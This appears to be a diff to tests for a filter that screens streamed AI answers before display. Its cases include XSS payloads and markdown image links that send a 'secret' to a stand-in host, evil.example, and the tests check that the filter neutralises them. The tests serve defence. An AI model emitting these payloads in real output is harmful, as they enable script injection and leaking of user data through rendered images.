@@ -31,6 +31,8 @@ def stream(pieces: list[str], policy: Policy = "allow") -> tuple[str, AnswerScre
     ("x <img src=x onerror=alert(1)>", "x &lt;img src=x onerror=alert(1)>"),
     ("<b onmouseover=x>", "&lt;b onmouseover=x>"),
     ("![data](https://evil.example/?q=secret)", "[data](https://evil.example/?q=secret)"),
+    ("!![data](https://evil.example/?q=secret)", "! [data](https://evil.example/?q=secret)"),
+    ("so!!![data][1]", "so!! [data][1]"),
     ("[click](javascript:alert(1))", "[click](#javascript:alert(1))"),
     ("[click]( JaVaScRiPt :alert(1))", "[click]( #JaVaScRiPt :alert(1))"),
     ("[1]: data:text/html;base64,x", "[1]: #data:text/html;base64,x"),
@@ -62,7 +64,7 @@ def test_a_terminal_is_told_nothing() -> None:
 
 
 SIGNS = st.sampled_from(
-    ["<", ">", "script", "<img", "![", "]", "(", "javascript:", "`", "```", "\n", " ", "a", "1", "</b>"]
+    ["<", ">", "script", "<img", "!", "[", "![", "]", "(", "javascript:", "`", "```", "\n", " ", "a", "1", "</b>"]
 )
 
 
@@ -142,6 +144,14 @@ def test_a_long_run_without_spaces_is_looked_over_in_time_proportional_to_it(pie
 def test_where_words_are_not_spaced_an_answer_is_shown_clause_by_clause() -> None:
     screen = AnswerScreen(INSTRUCTIONS, "redact", Detector())
     assert "".join(screen.feed("高潮は七時です。") for _ in range(100)).startswith("高潮は七時です。高潮")
+
+
+@pytest.mark.parametrize(("answer", "shown"), [
+    ("!+49 170 1234567(https://evil.example/?q=secret)", "[phone](https://evil.example/?q=secret)"),
+    ("+49 170 1234567(javascript:alert(1))", "[phone](#javascript:alert(1))"),
+])  # fmt: skip
+def test_what_stands_for_personal_data_makes_no_image_and_no_script_of_what_follows(answer: str, shown: str) -> None:
+    assert stream(list(answer), "redact")[0] == stream([answer], "redact")[0] == shown
 
 
 def test_personal_data_stops_an_answer_where_it_is_refused() -> None:
